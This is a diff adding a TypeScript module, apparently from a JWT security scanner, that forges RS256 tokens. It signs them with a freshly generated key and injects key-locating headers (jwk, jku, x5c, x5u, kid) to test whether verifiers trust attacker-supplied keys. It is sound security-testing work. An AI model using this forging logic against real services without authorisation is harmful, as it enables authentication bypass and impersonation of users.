@@ -1,0 +1,30 @@
+/**
+ * Tokens signed by a key the scanner just made (RS256): the original claims (exp/nbf refreshed) under the original
+ * header minus any key-locating parameter, plus the ones the attack names (jwk, jku, x5c, x5u, kid).
+ */
+import { createPublicKey, generateKeyPair, randomBytes, sign, type KeyObject } from 'node:crypto';
+import { promisify } from 'node:util';
+import { encodeSegment, type UnverifiedJwt } from '../../scanner/jwt/parse-unverified.js';
+import { freshPayloadSegment } from '../../scanner/jwt/sign.js';
+
+const generate = promisify(generateKeyPair);
+
+export interface ScannerKey {
+  privateKey: KeyObject;
+  publicKey: KeyObject;
+  kid: string;
+}
+
+export async function newScannerKey(): Promise<ScannerKey> {
+  const { privateKey } = await generate('rsa', { modulusLength: 2048 });
+  return { privateKey, publicKey: createPublicKey(privateKey), kid: `gatehouse-${randomBytes(6).toString('hex')}` };
+}
+
+/** RFC 7515 §4.1.2–4.1.6: the header parameters that tell a verifier where the key is. */
+const KEY_LOCATORS = ['jwk', 'jku', 'x5c', 'x5u', 'x5t', 'x5t#S256'];
+
+export function forgedRsaToken(jwt: UnverifiedJwt, key: ScannerKey, locator: Record<string, unknown>): string {
+  const kept = Object.fromEntries(Object.entries(jwt.header).filter(([name]) => !KEY_LOCATORS.includes(name)));
+  const signingInput = `${encodeSegment({ ...kept, alg: 'RS256', kid: key.kid, ...locator })}.${freshPayloadSegment(jwt)}`;
+  return `${signingInput}.${sign('sha256', Buffer.from(signingInput), key.privateKey).toString('base64url')}`;
+}
